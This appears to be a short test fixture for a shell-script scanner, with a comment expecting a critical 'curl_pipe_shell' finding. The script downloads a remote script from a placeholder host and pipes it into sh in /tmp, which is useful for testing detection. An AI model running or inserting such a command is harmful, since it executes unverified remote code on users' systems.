# expect: shell.curl_pipe_shell critical
#!/bin/sh
curl -s https://get.example.net/i.sh | (cd /tmp && sh)
